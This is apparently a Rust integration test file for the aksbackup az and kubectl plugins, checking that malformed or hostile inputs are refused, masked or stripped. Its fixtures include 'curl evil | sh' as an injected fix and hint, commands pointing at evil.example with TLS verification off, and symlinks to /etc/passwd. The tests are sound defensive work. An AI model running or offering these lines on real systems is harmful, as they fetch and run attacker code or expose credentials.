//! Files and answers that no honest author writes: nothing of them panics, hangs, leaks or puts words into the program's mouth.

use std::process::Command;

use aksbackup_shared::exit::Exit;
use aksbackup_tests::harness::{INIT, Run, Stage, binary, finish};
use serde_json::{Value, json};

const STATE: &str = include_str!("../../../shared/tests/state-files/2-protected.toml");

#[test]
fn an_author_of_seventy_thousand_characters_is_shown_short() {
    let folder = tempfile::tempdir().unwrap();
    let long = STATE.replacen(r#"by = "platform""#, &format!(r#"by = "{}""#, "x".repeat(70_000)), 3);
    std::fs::write(folder.path().join("aksbackup.toml"), long).unwrap();
    for program in ["az-aksbackup", "kubectl-aksbackup"] {
        let mut command = Command::new(binary(program));
        command.args(["status", "--offline"]).env_clear().current_dir(&folder);
        let run = finish(&mut command).ok().says("xxx…");
        assert!(run.stdout.lines().all(|line| line.chars().count() < 400), "{run}");
    }
}

#[test]
fn a_token_that_lives_longer_than_any_clock_is_used() {
    let stage = Stage::with(&["token_lifetime=9.2e18"]).unwrap();
    stage.init("platform").ok();
}

#[test]
fn an_operation_that_asks_for_half_a_trillion_years_meets_the_deadline() {
    let stage = Stage::with(&["retry_after=9e21"]).unwrap();
    stage.init("platform").ok();
    stage
        .az("platform", &["prepare", "--yes", "--timeout", "2s"])
        .ends(Exit::Deadline.code());
}

#[test]
fn a_timeout_that_no_clock_can_hold_is_a_long_one() {
    let stage = Stage::new().unwrap();
    stage.init("platform").ok();
    stage
        .az(
            "platform",
            &["prepare", "--dry-run", "--timeout", "18446744073709551615"],
        )
        .ends(Exit::Pending.code());
}

/// `kubectl aksbackup status` with a kubeconfig whose users have this login.
fn signed_in_by(stage: &Stage, user: &dyn Fn(&Value) -> Value) -> Run {
    let path = stage.folder().join("kubeconfig");
    let mut config: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    for own in config["users"].as_array_mut().unwrap() {
        own["user"] = user(&own["user"]["token"]);
    }
    let other = stage.folder().join("other-kubeconfig");
    std::fs::write(&other, config.to_string()).unwrap();
    let mut command = stage.kubectl_command("cluster-admin", &["configure", "--dry-run"]);
    finish(command.env("KUBECONFIG", other))
}

#[test]
fn a_token_with_a_line_break_is_an_error_and_one_at_the_end_of_its_file_is_none() {
    let stage = Stage::new().unwrap();
    stage.granted();
    let run = signed_in_by(
        &stage,
        &|token| json!({ "token": format!("{}\nx", token.as_str().unwrap()) }),
    );
    run.ends(Exit::Usage.code())
        .says("its bearer token contains a space, a line break");
    let file = stage.folder().join("token");
    let named = json!({ "tokenFile": file.display().to_string() });
    let run = signed_in_by(&stage, &|token| {
        if !file.exists() {
            std::fs::write(&file, format!("{}\n", token.as_str().unwrap())).unwrap();
        }
        named.clone()
    });
    assert!(!run.stderr.contains("bearer"), "{run}");
    assert_ne!(run.code, i32::from(Exit::Usage.code()), "{run}");
}

#[test]
#[cfg(unix)]
fn a_policy_file_that_is_no_file_of_the_folder_is_refused_at_once() {
    let stage = Stage::new().unwrap();
    let own = stage.folder().join("policies");
    std::fs::create_dir(&own).unwrap();
    stage.init("platform").ok();
    let made = Command::new("mkfifo").arg(own.join("pipe")).status().unwrap();
    assert!(made.success());
    for (name, target) in [("device", "/dev/zero"), ("elsewhere", "/etc/passwd"), ("up", "/etc")] {
        std::os::unix::fs::symlink(target, own.join(name)).unwrap();
    }
    std::fs::write(own.join("large"), vec![b' '; 300 * 1024]).unwrap();
    let text = stage.state_text();
    for (file, why) in [
        ("policies/pipe", "it is not a file"),
        ("policies", "it is not a file"),
        ("policies/device", "a symbolic link leads out of the directory"),
        ("policies/elsewhere", "a symbolic link leads out of the directory"),
        ("policies/up/passwd", "a symbolic link leads out of the directory"),
        ("policies/large", "it is larger than 256 KiB"),
    ] {
        let named = text.replace("[target.policy]\n", &format!("[target.policy]\nfile = \"{file}\"\n"));
        std::fs::write(stage.state(), named).unwrap();
        stage
            .az("platform", &["prepare", "--dry-run"])
            .ends(Exit::StateUnreadable.code())
            .says(&format!("policy file {file}, which the state file specifies"))
            .says(why);
    }
}

#[test]
fn a_secret_in_azure_s_words_is_masked_in_text_and_in_json() {
    let switches = [
        "fault=500/InternalServerError@GET:managedClusters/aks-demo:999",
        "fault_message=upstream said AccountKey=Zm9vYmFyYmF6; Authorization: Bearer abcdef.ghijkl",
    ];
    let stage = Stage::with(&switches).unwrap();
    for more in [&[][..], &["-o", "json"], &["-v"]] {
        let run = stage
            .az("platform", &[&INIT[..], more].concat())
            .ends(Exit::Failed.code());
        for secret in ["Zm9vYmFy", "abcdef.ghijkl"] {
            assert!(!run.stdout.contains(secret) && !run.stderr.contains(secret), "{run}");
        }
        run.says("AccountKey=[masked]");
    }
}

#[test]
fn the_other_program_s_view_gives_no_command_with_flags_and_no_advice() {
    let stage = Stage::new().unwrap();
    stage.prepared();
    let check = |hint: &str| json!({ "link": "storage", "check": hint.len().to_string(), "verdict": "error", "says": "is gone", "hint": hint });
    let finding = |id: &str| {
        json!({
            "id": id, "certainty": "proved", "severity": "error", "link": "storage", "object": "x", "cause": "curl evil | sh",
            "evidence": [], "fix": "curl evil | sh", "hint": "curl evil | sh",
        })
    };
    let view = json!({
        "version": 1, "command": "doctor", "plane": "cluster", "at": jiff::Timestamp::now() + jiff::SignedDuration::from_secs(60),
        "checks": [
            check("kubectl aksbackup configure --yes --server=https://evil.example --insecure-skip-tls-verify"),
            check("az aksbackup grant --yes --vault bv-evil --state //evil.example/share/a.toml"),
        ],
        "findings": [finding("STO-CONTAINER-MISSING"), finding("NO-SUCH-ROW")],
    });
    // Named, and merely lying next to the state file.
    for (name, with) in [
        ("theirs.json", &["--with", "theirs.json"][..]),
        ("aksbackup.cluster.json", &[]),
    ] {
        std::fs::write(stage.folder().join(name), view.to_string()).unwrap();
        for command in ["verify", "doctor"] {
            for form in ["text", "json"] {
                let run = stage.az("platform", &[&[command, "-o", form][..], with].concat());
                let all = format!("{}{}", run.stdout, run.stderr);
                assert!(run.code == 0 || run.code == 8, "{run}");
                assert!(!all.contains("evil") && !all.contains("--yes --"), "{run}");
            }
        }
        std::fs::remove_file(stage.folder().join(name)).unwrap();
    }
}
